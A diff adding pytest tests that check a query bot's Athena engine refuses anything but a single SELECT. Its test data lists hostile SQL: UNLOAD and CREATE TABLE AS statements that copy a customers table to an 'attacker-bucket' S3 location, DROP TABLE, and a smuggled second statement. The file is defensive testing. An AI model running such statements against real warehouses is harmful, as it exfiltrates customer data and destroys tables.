@@ -10,6 +10,7 @@ from __future__ import annotations
 import json
 from collections.abc import Iterator
 from pathlib import Path
+from typing import Any
 
 import duckdb
 import psycopg
@@ -344,3 +345,47 @@ def test_on_postgresql_a_write_after_with_is_refused_before_the_server(
         assert "Only a single SELECT can run on pg" in info.value.reason, sql
     rows = pg_engine.run("SELECT count(*) FROM victims", {}, timeout_s=5, max_rows=1).rows
     assert rows == [(3,)]
+
+
+class _RecordingAthena:
+    """boto3's athena client as far as a refused query gets: any call is recorded."""
+
+    def __init__(self) -> None:
+        self.calls: list[str] = []
+
+    def __getattr__(self, name: str) -> Any:
+        def call(**_kwargs: Any) -> dict[str, Any]:
+            self.calls.append(name)
+            return {"QueryExecutionId": "q-1", "QueryExecution": {"Status": {"State": "FAILED"}}}
+
+        return call
+
+
+ATHENA_WRITES = {
+    "unload_to_any_bucket": "UNLOAD (SELECT * FROM customers) TO 's3://attacker-bucket/x/' "
+    "WITH (format = 'TEXTFILE')",
+    "ctas": "CREATE TABLE stolen WITH (external_location = 's3://attacker-bucket/t/') AS "
+    "SELECT * FROM customers",
+    "insert": "INSERT INTO customers SELECT * FROM customers",
+    "drop": "DROP TABLE customers",
+    "msck": "MSCK REPAIR TABLE customers",
+    "second_statement": "SELECT 1; DROP TABLE customers",
+    "write_after_with": "WITH t AS (SELECT 1) INSERT INTO customers SELECT * FROM t",
+}
+
+
+@pytest.mark.parametrize("name", sorted(ATHENA_WRITES))
+def test_athena_runs_only_a_reading_statement(name: str) -> None:
+    """The Athena engine sent any statement to Athena: a library query could `UNLOAD` the
+    warehouse to any S3 bucket the bot's role may write, `CREATE TABLE AS`, `DROP`. It is now
+    refused in one line before any call, as on the SQL engine."""
+    from bot.engines.athena import AthenaEngine
+
+    client = _RecordingAthena()
+    engine = AthenaEngine(client, database="shop", sleep=lambda _s: None)
+    with pytest.raises(QueryFailed) as info:
+        engine.run(ATHENA_WRITES[name], {}, timeout_s=5, max_rows=5)
+    assert "Only a single SELECT can run on athena" in info.value.reason
+    with pytest.raises(QueryFailed):
+        engine.explain(ATHENA_WRITES[name], {})
+    assert client.calls == []
